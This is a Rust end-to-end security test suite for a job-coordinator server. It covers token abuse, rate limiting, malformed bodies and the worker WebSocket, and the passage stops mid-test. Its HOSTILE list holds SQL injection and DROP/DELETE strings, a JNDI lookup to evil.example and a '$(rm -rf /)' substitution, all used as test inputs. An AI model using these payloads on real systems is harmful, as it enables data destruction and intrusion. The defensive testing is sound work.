//! Hostile clients against the real `gridx-server` binary: bad and stolen tokens,
//! token guessing, malformed and oversized bodies, slow-loris connections, garbage on
//! the worker WebSocket, SQL metacharacters in every field a client controls, and
//! other users' job ids.
//!
//! Every attack must get a clear answer (the status code and the API's error body
//! `{"error": {"code", "message"}}`, or a worker `reject {code, message}` then a
//! close), and the coordinator must keep serving everyone else: most tests run a
//! well-behaved user (a [`Bystander`]) throughout and assert that it never saw an
//! error or a stall, and end with `gridx-server ledger verify`.
//!
//! The in-process tests in `gridx-server/tests/{api,workers}.rs` check the same error
//! codes one by one; this file is the adversarial suite against the shipped binary.
//!
//! Not tested because it does not exist: token expiry. User and worker tokens carry no
//! expiry time (there is no such column in the store and no such setting); a user
//! token ends only when it is rotated (`gridx-server user token NAME`) and a worker
//! token only when it is revoked (`gridx-server worker revoke ID`). Both are tested.

use futures_util::{SinkExt, StreamExt};
use gridx_e2e::fake_worker::{Got, Ws, heartbeat, heartbeat_holding, next, send_json};
use gridx_e2e::{Grid, admin_output};
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::Instant;
use tokio_tungstenite::tungstenite::Message;

/// The longest any single request of the well-behaved user may take during an attack.
const MAX_STALL: Duration = Duration::from_secs(3);

/// Strings that break naive SQL, shells, logs or terminals. None is blank, and none
/// has a NUL byte (NUL is tested on its own, because `code` refuses it).
const HOSTILE: &[&str] = &[
    "'",
    "\"",
    ";",
    "--",
    "' OR 1=1 --",
    "' OR '1'='1",
    "'); DROP TABLE jobs; --",
    "\"); DROP TABLE users; --",
    "1; DELETE FROM ledger; --",
    "*/ SELECT * FROM users /*",
    "%_\\%\\_",
    "\\'\\\"\\\\",
    "${jndi:ldap://evil.example/x} $(rm -rf /) `id`",
    "日本語 ✓ 🦀 e\u{301} \u{202e}txt.exe \u{feff}\u{200b}",
    "\u{7f}\u{1b}[31mred\u{1b}[0m\u{7}",
    "line1\r\nline2\ttab\u{b}\u{c}",
    "\u{10ffff}\u{fffd}",
];

// ---------------------------------------------------------------------------------
// Helpers: errors, raw HTTP, the well-behaved user, a tuned coordinator.
// ---------------------------------------------------------------------------------

/// Checks an API error response: the status, a JSON content type and exactly the body
/// `{"error": {"code": code, "message": <a sentence>}}`. Returns the message.
async fn expect_error(response: reqwest::Response, status: u16, code: &str, what: &str) -> String {
    let got = response.status().as_u16();
    let content_type = response
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    let text = response.text().await.unwrap_or_default();
    assert_eq!(got, status, "{what}: wrong status; body {text}");
    error_body(&content_type, &text, code, what)
}

fn error_body(content_type: &str, text: &str, code: &str, what: &str) -> String {
    assert!(
        content_type.starts_with("application/json"),
        "{what}: the error is not JSON (content-type {content_type:?}): {text}"
    );
    let body: Value = serde_json::from_str(text)
        .unwrap_or_else(|e| panic!("{what}: the error body is not JSON ({e}): {text}"));
    assert_eq!(body["error"]["code"], code, "{what}: wrong code in {text}");
    let message = body["error"]["message"]
        .as_str()
        .unwrap_or_else(|| panic!("{what}: no message in {text}"));
    assert!(!message.trim().is_empty(), "{what}: empty message");
    assert_eq!(
        body.as_object().map(|o| o.len()),
        Some(1),
        "{what}: the error body has more than `error`: {text}"
    );
    message.to_owned()
}

/// A raw HTTP/1.1 response, read off the socket.
struct RawResponse {
    status: u16,
    head: String,
    body: String,
}

impl RawResponse {
    fn header(&self, name: &str) -> Option<String> {
        self.head.lines().skip(1).find_map(|line| {
            let (k, v) = line.split_once(':')?;
            k.trim()
                .eq_ignore_ascii_case(name)
                .then(|| v.trim().to_owned())
        })
    }

    fn expect_error(&self, status: u16, code: &str, what: &str) -> String {
        assert_eq!(self.status, status, "{what}: {}\n{}", self.head, self.body);
        error_body(
            &self.header("content-type").unwrap_or_default(),
            &self.body,
            code,
            what,
        )
    }
}

/// Reads one response: up to the end of the head and `Content-Length` bytes of body,
/// or until the server closes or the deadline passes.
async fn read_response(stream: &mut (impl AsyncRead + Unpin), secs: u64) -> Option<RawResponse> {
    let deadline = Instant::now() + Duration::from_secs(secs);
    let mut buf = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    loop {
        if let Some(end) = find(&buf, b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&buf[..end]).into_owned();
            let length = head.lines().find_map(|l| {
                let (k, v) = l.split_once(':')?;
                k.trim()
                    .eq_ignore_ascii_case("content-length")
                    .then(|| v.trim().parse::<usize>().ok())?
            });
            // A 101 has no body: what follows is the upgraded protocol's, not ours.
            let upgraded = head.starts_with("HTTP/1.1 101");
            if upgraded || length.is_some_and(|n| buf.len() >= end + 4 + n) {
                break;
            }
        }
        match tokio::time::timeout_at(deadline, stream.read(&mut chunk)).await {
            Ok(Ok(0)) | Ok(Err(_)) | Err(_) => break,
            Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    let end = find(&buf, b"\r\n\r\n")?;
    let head = String::from_utf8_lossy(&buf[..end]).into_owned();
    let status = head.split_whitespace().nth(1)?.parse().ok()?;
    let body = String::from_utf8_lossy(&buf[end + 4..]).into_owned();
    Some(RawResponse { status, head, body })
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// Sends raw bytes on a new connection and reads the answer.
async fn raw_request(port: u16, request: &[u8]) -> RawResponse {
    let mut stream = TcpStream::connect(("127.0.0.1", port))
        .await
        .expect("connect");
    stream.write_all(request).await.expect("write request");
    read_response(&mut stream, 10)
        .await
        .unwrap_or_else(|| panic!("no response to {:?}", String::from_utf8_lossy(request)))
}

/// What the well-behaved user saw.
#[derive(Debug, Default)]
struct Served {
    rounds: u32,
    requests: u32,
    jobs: Vec<u64>,
    errors: Vec<String>,
    slowest: Duration,
}

/// A well-behaved user that, until stopped, checks health, submits a job, reads it
/// back, lists its jobs and reads its balance, about 15 rounds a second, on its own
/// connection pool. Its jobs are `python`; the fake workers in this file only take
/// `bash`, so they stay queued and can be checked at the end.
struct Bystander {
    stop: Arc<AtomicBool>,
    rounds: Arc<AtomicU32>,
    task: tokio::task::JoinHandle<Served>,
    url: String,
    token: String,
}

const BYSTANDER_CREDITS: u64 = 100_000;

impl Bystander {
    fn start(grid: &Grid) -> Bystander {
        let token = grid.user("bystander", &BYSTANDER_CREDITS.to_string());
        let stop = Arc::new(AtomicBool::new(false));
        let rounds = Arc::new(AtomicU32::new(0));
        let url = grid.url.clone();
        let task = tokio::spawn({
            let (stop, rounds, url, token) =
                (stop.clone(), rounds.clone(), url.clone(), token.clone());
            async move { bystander_loop(stop, rounds, url, token).await }
        });
        Bystander {
            stop,
            rounds,
            task,
            url,
            token,
        }
    }

    /// Lets it finish at least two rounds (so it overlapped the attack), stops it, and
    /// asserts it was served throughout: no error, no stall, and every job it
    /// submitted still there, queued, and paid for once.
    async fn finish(self) -> Served {
        let deadline = Instant::now() + Duration::from_secs(10);
        while self.rounds.load(Ordering::SeqCst) < 2 && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        self.stop.store(true, Ordering::SeqCst);
        let served = self.task.await.expect("bystander task");
        assert!(
            served.errors.is_empty(),
            "the well-behaved user saw errors during the attack: {:#?}",
            served.errors
        );
        assert!(
            served.slowest <= MAX_STALL,
            "the well-behaved user waited {:?} for one request",
            served.slowest
        );
        assert!(
            served.rounds >= 2,
            "the well-behaved user got only {} rounds done",
            served.rounds
        );
        let http = reqwest::Client::new();
        let list: Value = http
            .get(format!("{}/v1/jobs?limit=500", self.url))
            .bearer_auth(&self.token)
            .send()
            .await
            .expect("list")
            .json()
            .await
            .expect("json");
        let mut listed: Vec<u64> = list["jobs"]
            .as_array()
            .expect("jobs")
            .iter()
            .map(|j| {
                assert_eq!(j["status"], "queued", "bystander job changed: {j}");
                assert_eq!(j["user"], "bystander", "{j}");
                j["job_id"].as_u64().expect("id")
            })
            .collect();
        listed.sort_unstable();
        let mut submitted = served.jobs.clone();
        submitted.sort_unstable();
        if submitted.len() < 500 {
            assert_eq!(listed, submitted, "the bystander's jobs are not intact");
        }
        let balance: Value = http
            .get(format!("{}/v1/balance", self.url))
            .bearer_auth(&self.token)
            .send()
            .await
            .expect("balance")
            .json()
            .await
            .expect("json");
        assert_eq!(
            balance["balance"].as_u64(),
            Some(BYSTANDER_CREDITS - served.jobs.len() as u64),
            "the bystander was not charged exactly once per job: {balance}"
        );
        served
    }
}

async fn bystander_loop(
    stop: Arc<AtomicBool>,
    rounds: Arc<AtomicU32>,
    url: String,
    token: String,
) -> Served {
    let http = reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()
        .expect("client");
    let mut served = Served::default();
    while !stop.load(Ordering::SeqCst) {
        served.rounds += 1;
        let round = served.rounds;
        // One step: send, time, check the status, parse JSON.
        macro_rules! step {
            ($name:expr, $request:expr, $want:expr) => {{
                let started = Instant::now();
                let result = $request.send().await;
                let took = started.elapsed();
                served.requests += 1;
                served.slowest = served.slowest.max(took);
                match result {
                    Ok(r) if r.status().as_u16() == $want => r.json::<Value>().await.ok(),
                    Ok(r) => {
                        let status = r.status();
                        let text = r.text().await.unwrap_or_default();
                        served
                            .errors
                            .push(format!("round {round} {}: {status} {text}", $name));
                        None
                    }
                    Err(e) => {
                        served
                            .errors
                            .push(format!("round {round} {}: {e} after {took:?}", $name));
                        None
                    }
                }
            }};
        }
        let health = step!("healthz", http.get(format!("{url}/healthz")), 200);
        if health.as_ref().is_some_and(|h| h["status"] != "ok") {
            served
                .errors
                .push(format!("round {round}: health {health:?}"));
        }
        let code = format!("print({round})");
        let job = step!(
            "submit",
            http.post(format!("{url}/v1/jobs"))
                .bearer_auth(&token)
                .json(&json!({"language": "python", "code": code})),
            201
        );
        if let Some(id) = job.as_ref().and_then(|j| j["job_id"].as_u64()) {
            served.jobs.push(id);
            let view = step!(
                "get",
                http.get(format!("{url}/v1/jobs/{id}")).bearer_auth(&token),
                200
            );
            if view.as_ref().is_some_and(|v| v["job_id"] != id) {
                served.errors.push(format!("round {round}: got {view:?}"));
            }
            let list = step!(
                "list",
                http.get(format!("{url}/v1/jobs?limit=5"))
                    .bearer_auth(&token),
                200
            );
            if list.as_ref().is_some_and(|l| l["jobs"][0]["job_id"] != id) {
                served
                    .errors
                    .push(format!("round {round}: newest job is not {id}: {list:?}"));
            }
        }
        step!(
            "balance",
            http.get(format!("{url}/v1/balance")).bearer_auth(&token),
            200
        );
        rounds.fetch_add(1, Ordering::SeqCst);
        // The bystander's pace: a person's client, not a flood.
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    served
}

/// Runs an admin command on a data directory that must fail; returns its stderr.
fn admin_fails(data_dir: &std::path::Path, args: &[&str]) -> String {
    let out = admin_output(data_dir, args);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        !out.status.success(),
        "gridx-server {args:?} accepted a hostile value; stdout {:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        out.stdout.is_empty(),
        "gridx-server {args:?} failed but printed on stdout: {:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        stderr.contains("error"),
        "gridx-server {args:?}: no clear error on stderr: {stderr}"
    );
    stderr
}

/// Registers a worker; returns (worker id, token).
fn add_worker(grid: &Grid, owner: &str, name: &str) -> (u64, String) {
    let out = grid.admin(&[
        "worker",
        "add",
        "--owner",
        owner,
        "--name",
        name,
        "--json",
        "--trusted",
    ]);
    let v: Value = serde_json::from_str(&out).expect("worker add --json");
    (
        v["worker_id"].as_u64().expect("worker_id"),
        v["token"].as_str().expect("token").to_owned(),
    )
}

// ---------------------------------------------------------------------------------
// Helpers: the worker WebSocket.
// ---------------------------------------------------------------------------------

async fn ws_connect(grid: &Grid) -> Ws {
    let url = format!("ws://127.0.0.1:{}/v1/worker/connect", grid.port);
    tokio_tungstenite::connect_async(url)
        .await
        .expect("worker websocket upgrade")
        .0
}

/// The next frame must be `reject {code, message}`, and the connection must end right
/// after it. Returns the message.
async fn expect_reject(ws: &mut Ws, code: &str, secs: f64, what: &str) -> String {
    match next(ws, secs).await {
        Got::Json(v) if v["type"] == "reject" => {
            assert_eq!(v["code"], code, "{what}: {v}");
            let message = v["message"].as_str().unwrap_or_default().to_owned();
            assert!(
                !message.trim().is_empty(),
                "{what}: reject without a message"
            );
            expect_closed(ws, 3.0, what).await;
            message
        }
        other => panic!("{what}: expected reject {code}, got {other:?}"),
    }
}

/// The connection must end (a close frame or the end of the stream) within `secs`,
/// with no further message.
async fn expect_closed(ws: &mut Ws, secs: f64, what: &str) {
    match next(ws, secs).await {
        Got::Close(_) | Got::Ended(_) => {}
        other => panic!("{what}: expected the connection to close, got {other:?}"),
    }
}

fn hello(token: &str, name: &str) -> Value {
    json!({
        "type": "hello", "protocol": 1, "token": token, "name": name,
        "capabilities": {"languages": ["bash"], "slots": 1, "executor": "docker",
                         "cpu_cores": 1, "memory_mb": 1024, "gpus": 0},
        "running": []
    })
}

/// Connects and completes the handshake; returns the socket and the worker id.
async fn welcomed(grid: &Grid, token: &str, name: &str) -> (Ws, u64) {
    let mut ws = ws_connect(grid).await;
    send_json(&mut ws, &hello(token, name)).await;
    match next(&mut ws, 5.0).await {
        Got::Json(v) if v["type"] == "welcome" => {
            let id = v["worker_id"].as_u64().expect("worker_id");
            send_json(&mut ws, &heartbeat()).await;
            (ws, id)
        }
        other => panic!("expected welcome, got {other:?}"),
    }
}

/// Waits for the next `assign`, heartbeating meanwhile; returns (job_id, attempt, spec).
async fn expect_assign(ws: &mut Ws) -> (u64, u64, Value) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while Instant::now() < deadline {
        match next(ws, 0.5).await {
            Got::Json(v) if v["type"] == "assign" => {
                return (
                    v["job"]["job_id"].as_u64().expect("job_id"),
                    v["attempt"].as_u64().expect("attempt"),
                    v["job"]["spec"].clone(),
                );
            }
            Got::Json(_) | Got::Silent => send_json(ws, &heartbeat()).await,
            other => panic!("expected assign, got {other:?}"),
        }
    }
    panic!("no assign within 10 s");
}

async fn finish_job(ws: &mut Ws, job_id: u64, attempt: u64, stdout: &str, stderr: &str) {
    send_json(
        ws,
        &json!({"type": "started", "job_id": job_id, "attempt": attempt}),
    )
    .await;
    send_json(
        ws,
        &json!({"type": "finished", "job_id": job_id, "attempt": attempt,
                "outcome": {"end": "exited", "exit_code": 0, "stdout": stdout,
                            "stderr": stderr, "duration_ms": 1}}),
    )
    .await;
}

async fn wait_status(grid: &Grid, token: &str, id: u64, want: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let job = grid.get(token, &format!("/v1/jobs/{id}")).await;
        if job["status"] == want {
            return job;
        }
        assert!(
            Instant::now() < deadline,
            "job {id} never became {want}: {job}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn worker_status(grid: &Grid, token: &str, worker_id: u64) -> Option<Value> {
    grid.workers(token)
        .await
        .into_iter()
        .find(|w| w["worker_id"] == worker_id)
}

// ---------------------------------------------------------------------------------
// Tokens
// ---------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wrong_and_malformed_authorization_headers_get_401_with_a_clear_message() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let bystander = Bystander::start(&grid);
    let url = format!("{}/v1/balance", grid.url);
    let mut flipped = alice.clone().into_bytes();
    let last = flipped.len() - 1;
    flipped[last] = if flipped[last] == b'0' { b'1' } else { b'0' };
    let flipped = String::from_utf8(flipped).unwrap();
    let long = format!("Bearer gxu_{}", "a".repeat(10_000));
    let missing = "missing `Authorization: Bearer <token>` header";
    let unknown = "unknown or rotated API token";
    // (header value, expected message); None sends no header at all. Fewer than 20
    // failures, so the per-address limit on failed tokens is not reached here.
    let cases: Vec<(Option<Vec<u8>>, &str)> = vec![
        (None, missing),
        (Some(b"Bearer".to_vec()), missing),
        (Some(b"Bearer    ".to_vec()), missing),
        (Some(b"Basic YWxpY2U6aHVudGVyMg==".to_vec()), missing),
        (Some(format!("Token {alice}").into_bytes()), missing),
        (Some(alice.clone().into_bytes()), missing),
        (Some(long.into_bytes()), missing),
        (Some(b"Bearer \xff\xfe\x80".to_vec()), missing),
        (
            Some(format!("Bearer gxu_{}", "0".repeat(64)).into_bytes()),
            unknown,
        ),
        (Some(format!("Bearer {flipped}").into_bytes()), unknown),
        (Some(format!("Bearer {alice}x").into_bytes()), unknown),
        (
            Some(format!("Bearer {alice} {alice}").into_bytes()),
            unknown,
        ),
        (Some(b"Bearer alice".to_vec()), unknown),
        (Some(b"Bearer ' OR 1=1 --".to_vec()), unknown),
    ];
    for (header, want) in cases {
        let mut request = grid.http.get(&url);
        if let Some(value) = &header {
            let value = reqwest::header::HeaderValue::from_bytes(value).expect("header value");
            request = request.header("authorization", value);
        }
        let what = format!(
            "Authorization {:?}",
            header.as_deref().map(String::from_utf8_lossy)
        );
        let message = expect_error(request.send().await.unwrap(), 401, "unauthorized", &what).await;
        assert_eq!(message, want, "{what}");
    }
    // The scheme is case-insensitive, and surrounding spaces do not matter.
    for value in [format!("bearer {alice}"), format!("BEARER  {alice} ")] {
        let response = grid
            .http
            .get(&url)
            .header("authorization", value.as_str())
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200, "{value}");
    }
    // The events WebSocket takes the same header on its upgrade; a wrong one is 401.
    let mut request =
        tokio_tungstenite::tungstenite::client::IntoClientRequest::into_client_request(format!(
            "ws://127.0.0.1:{}/v1/events",
            grid.port
        ))
        .unwrap();
    request.headers_mut().insert(
        "authorization",
        format!("Bearer gxu_{}", "1".repeat(64)).parse().unwrap(),
    );
    match tokio_tungstenite::connect_async(request).await {
        Err(tokio_tungstenite::tungstenite::Error::Http(response)) => {
            let status = response.status().as_u16();
            let body = String::from_utf8_lossy(response.body().as_deref().unwrap_or_default())
                .into_owned();
            assert_eq!(status, 401, "{body}");
            let content_type = response
                .headers()
                .get("content-type")
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_owned();
            error_body(
                &content_type,
                &body,
                "unauthorized",
                "/v1/events with a wrong token",
            );
        }
        Ok(_) => panic!("/v1/events upgraded with a wrong token"),
        Err(e) => panic!("/v1/events with a wrong token: {e}"),
    }
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

/// Users have no revoke command: rotating the token (`user token NAME`) is how an
/// operator revokes a leaked one. Tokens never expire (see the top of this file).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rotated_user_token_stops_working_at_once_and_the_new_one_keeps_the_jobs() {
    let grid = Grid::start().await;
    let old = grid.user("alice", "10");
    let bystander = Bystander::start(&grid);
    let job = grid
        .submit(&old, json!({"language": "python", "code": "print(1)"}))
        .await;
    let id = job["job_id"].as_u64().unwrap();
    let new = grid.admin(&["user", "token", "alice"]);
    assert_ne!(old, new);
    for path in ["/v1/balance", &format!("/v1/jobs/{id}"), "/v1/jobs"] {
        let response = grid
            .http
            .get(format!("{}{path}", grid.url))
            .bearer_auth(&old)
            .send()
            .await
            .unwrap();
        let message = expect_error(response, 401, "unauthorized", path).await;
        assert_eq!(message, "unknown or rotated API token");
    }
    let response = grid
        .http
        .post(format!("{}/v1/jobs/{id}/cancel", grid.url))
        .bearer_auth(&old)
        .send()
        .await
        .unwrap();
    expect_error(response, 401, "unauthorized", "cancel with the old token").await;
    // The old token did nothing; the new one sees the same account.
    let job = grid.get(&new, &format!("/v1/jobs/{id}")).await;
    assert_eq!(job["status"], "queued");
    assert_eq!(grid.get(&new, "/v1/balance").await["balance"], 9);
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn worker_tokens_do_not_open_the_api_and_user_tokens_do_not_open_the_worker_socket() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let (worker_id, worker_token) = add_worker(&grid, "alice", "w1");
    let bystander = Bystander::start(&grid);
    let worker_message = "this is a worker token; it only works for `gridx-tui worker`";

    // A worker token on the HTTP API.
    let requests = [
        grid.http.get(format!("{}/v1/balance", grid.url)),
        grid.http.get(format!("{}/v1/jobs", grid.url)),
        grid.http.get(format!("{}/v1/workers", grid.url)),
        grid.http
            .post(format!("{}/v1/jobs", grid.url))
            .json(&json!({"language": "bash", "code": "echo"})),
    ];
    for request in requests {
        let response = request.bearer_auth(&worker_token).send().await.unwrap();
        let message = expect_error(response, 401, "unauthorized", "worker token on the API").await;
        assert_eq!(message, worker_message);
    }

    // A user token in the worker's hello: reject bad_token, then close.
    let mut ws = ws_connect(&grid).await;
    send_json(&mut ws, &hello(&alice, "thief")).await;
    let message = expect_reject(&mut ws, "bad_token", 5.0, "user token in hello").await;
    assert!(message.contains("user API token"), "{message}");

    // Unknown, over-long and empty worker tokens. (A hello is at most 64 KiB, so the
    // longest token fits in that; a longer hello is `malformed`, tested below.)
    for token in [
        format!("gxw_{}", "0".repeat(64)),
        format!("gxw_{}", "f".repeat(60_000)),
        String::new(),
        "' OR 1=1 --".to_owned(),
    ] {
        let mut ws = ws_connect(&grid).await;
        send_json(&mut ws, &hello(&token, "guess")).await;
        let message = expect_reject(&mut ws, "bad_token", 5.0, "unknown worker token").await;
        assert_eq!(message, "unknown worker token");
    }

    // A revoked worker token: the live session is dropped with `revoked`, a new hello
    // is refused with `revoked`, and the API still refuses it.
    let (mut live, id) = welcomed(&grid, &worker_token, "w1").await;
    assert_eq!(id, worker_id);
    grid.admin(&["worker", "revoke", &worker_id.to_string()]);
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        match next(&mut live, 0.5).await {
            Got::Json(v) if v["type"] == "reject" => {
                assert_eq!(v["code"], "revoked", "{v}");
                expect_closed(&mut live, 3.0, "revoked session").await;
                break;
            }
            Got::Silent if Instant::now() < deadline => send_json(&mut live, &heartbeat()).await,
            Got::Json(v) if Instant::now() < deadline && v["type"] != "reject" => {}
            other => panic!("a revoked worker was not dropped with `revoked`: {other:?}"),
        }
    }
    let mut ws = ws_connect(&grid).await;
    send_json(&mut ws, &hello(&worker_token, "w1")).await;
    expect_reject(&mut ws, "revoked", 5.0, "hello with a revoked token").await;
    let response = grid
        .http
        .get(format!("{}/v1/balance", grid.url))
        .bearer_auth(&worker_token)
        .send()
        .await
        .unwrap();
    expect_error(
        response,
        401,
        "unauthorized",
        "revoked worker token on the API",
    )
    .await;

    bystander.finish().await;
    grid.assert_ledger_verifies();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_tokens_gets_429_with_retry_after_while_real_users_are_served() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let bystander = Bystander::start(&grid);
    let url = format!("{}/v1/balance", grid.url);
    let attacker = reqwest::Client::new();
    let mut unauthorized = 0;
    let mut limited = 0;
    for round in 0..8u32 {
        // Ten guesses at once, then one real request by alice from the same address.
        let guesses = (0..10u32).map(|i| {
            let guess = format!("gxu_{:064x}", round * 10 + i + 1);
            attacker.get(&url).bearer_auth(guess).send()
        });
        for response in futures_util::future::join_all(guesses).await {
            let response = response.expect("guess");
            match response.status().as_u16() {
                401 => {
                    unauthorized += 1;
                    expect_error(response, 401, "unauthorized", "a guess").await;
                }
                429 => {
                    limited += 1;
                    let retry_after = response
                        .headers()
                        .get("retry-after")
                        .and_then(|v| v.to_str().ok())
                        .and_then(|v| v.parse::<u64>().ok());
                    assert!(
                        retry_after.is_some_and(|s| s >= 1),
                        "429 without a whole Retry-After: {:?}",
                        response.headers()
                    );
                    expect_error(response, 429, "rate_limited", "a guess").await;
                }
                other => panic!("a guessed token got {other}"),
            }
        }
        let response = grid
            .http
            .get(&url)
            .bearer_auth(&alice)
            .send()
            .await
            .unwrap();
        assert_eq!(
            response.status(),
            200,
            "a valid token was held back by someone else's guessing"
        );
    }
    assert!(
        unauthorized <= 30,
        "{unauthorized} of 80 rapid guesses were answered 401: the limit does not bite"
    );
    assert!(limited >= 50, "only {limited} of 80 rapid guesses got 429");

    // The bucket is per address: a client on another loopback address that mistypes
    // its token once gets a plain 401, not 429.
    match reqwest::Client::builder()
        .local_address(std::net::IpAddr::from([127, 0, 0, 2]))
        .build()
        .unwrap()
        .get(&url)
        .bearer_auth("gxu_typo")
        .send()
        .await
    {
        Ok(response) => {
            expect_error(response, 401, "unauthorized", "a typo from another address").await;
        }
        Err(e) => gridx_e2e::skip::skip(
            "a second loopback address (127.0.0.2) for the other-address check",
            e,
        ),
    }

    // The limit is not a ban: after Retry-After, a wrong token is a 401 again. The
    // wait is what is under test (the bucket refills with time), not a synchronisation.
    tokio::time::sleep(Duration::from_millis(1200)).await;
    let response = attacker
        .get(&url)
        .bearer_auth("gxu_after_the_wait")
        .send()
        .await
        .unwrap();
    expect_error(response, 401, "unauthorized", "a guess after Retry-After").await;

    bystander.finish().await;
    grid.assert_ledger_verifies();
}

// ---------------------------------------------------------------------------------
// Bodies
// ---------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_json_wrong_types_unknown_fields_and_content_types_get_400_and_cost_nothing() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let bystander = Bystander::start(&grid);
    let url = format!("{}/v1/jobs", grid.url);
    let deep = format!(
        "{{\"language\":\"bash\",\"code\":\"x\",\"stdin\":{}{}}}",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let bodies: Vec<(&str, Vec<u8>)> = vec![
        ("not JSON", b"{not json".to_vec()),
        ("empty body", Vec::new()),
        ("truncated", br#"{"language":"bash","code":"echo"#.to_vec()),
        ("array", b"[]".to_vec()),
        ("null", b"null".to_vec()),
        ("string", br#""bash""#.to_vec()),
        ("number", b"42".to_vec()),
        (
            "trailing garbage",
            br#"{"language":"bash","code":"echo"} x"#.to_vec(),
        ),
        (
            "code a number",
            br#"{"language":"bash","code":123}"#.to_vec(),
        ),
        (
            "code an array",
            br#"{"language":"bash","code":["echo"]}"#.to_vec(),
        ),
        (
            "language a number",
            br#"{"language":7,"code":"echo"}"#.to_vec(),
        ),
        (
            "language unknown",
            br#"{"language":"cobol","code":"echo"}"#.to_vec(),
        ),
        (
            "timeout a string",
            br#"{"language":"bash","code":"echo","timeout_s":"10"}"#.to_vec(),
        ),
        (
            "timeout negative",
            br#"{"language":"bash","code":"echo","timeout_s":-1}"#.to_vec(),
        ),
        (
            "timeout a float",
            br#"{"language":"bash","code":"echo","timeout_s":1.5}"#.to_vec(),
        ),
        (
            "memory overflows u32",
            br#"{"language":"bash","code":"echo","memory_mb":99999999999}"#.to_vec(),
        ),
        (
            "priority huge",
            br#"{"language":"bash","code":"echo","priority":1e308}"#.to_vec(),
        ),
        (
            "stdin an object",
            br#"{"language":"bash","code":"echo","stdin":{}}"#.to_vec(),
        ),
        (
            "duplicate field",
            br#"{"language":"bash","code":"echo a","code":"echo b"}"#.to_vec(),
        ),
        (
            "unknown field user",
            br#"{"language":"bash","code":"echo","user":"bob"}"#.to_vec(),
        ),
        (
            "unknown field cost",
            br#"{"language":"bash","code":"echo","cost":0}"#.to_vec(),
        ),
        (
            "unknown field status",
            br#"{"language":"bash","code":"echo","status":"succeeded"}"#.to_vec(),
        ),
        (
            "unknown field job_id",
            br#"{"language":"bash","code":"echo","job_id":1}"#.to_vec(),
        ),
        (
            "unknown field, case",
            br#"{"language":"bash","code":"echo","Code":"x"}"#.to_vec(),
        ),
        ("deep nesting", deep.into_bytes()),
        (
            "invalid UTF-8",
            b"{\"language\":\"bash\",\"code\":\"echo \xff\xfe\xc0\x80\"}".to_vec(),
        ),
        (
            "lone surrogate",
            br#"{"language":"bash","code":"echo \ud800"}"#.to_vec(),
        ),
        (
            "NUL in code",
            br#"{"language":"bash","code":"echo \u0000 hi"}"#.to_vec(),
        ),
        (
            "blank code",
            br#"{"language":"bash","code":" \n\t "}"#.to_vec(),
        ),
        (
            "UTF-16",
            "{\"language\":\"bash\",\"code\":\"echo\"}"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect(),
        ),
    ];
    for (what, body) in bodies {
        let response = grid
            .http
            .post(&url)
            .bearer_auth(&alice)
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        expect_error(response, 400, "invalid_request", what).await;
    }
    // A valid body under the wrong content type, or none at all.
    let valid = r#"{"language":"bash","code":"echo"}"#;
    for content_type in [
        None,
        Some("text/plain"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=x"),
        Some("application/xml"),
        Some("application/jsonx"),
    ] {
        let mut request = grid.http.post(&url).bearer_auth(&alice).body(valid);
        if let Some(ct) = content_type {
            request = request.header("content-type", ct);
        }
        let response = request.send().await.unwrap();
        expect_error(
            response,
            400,
            "invalid_request",
            &format!("content-type {content_type:?}"),
        )
        .await;
    }
    // Nothing was stored or charged.
    let list = grid.get(&alice, "/v1/jobs").await;
    assert_eq!(list["jobs"], json!([]), "a malformed submit stored a job");
    assert_eq!(grid.get(&alice, "/v1/balance").await["balance"], 10);
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_bodies_get_413_without_being_read() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let bystander = Bystander::start(&grid);
    let url = format!("{}/v1/jobs", grid.url);
    // Each attack on its own client: see `an_early_error_on_an_unread_body_says_connection_close`
    // for what happens to a client that reuses the connection.
    let attacker = || reqwest::Client::new();

    // A body over `server.max_request_bytes` (2 MiB), with a Content-Length.
    let huge = format!(
        "{{\"language\":\"bash\",\"code\":\"{}\"}}",
        "x".repeat(3 * 1024 * 1024)
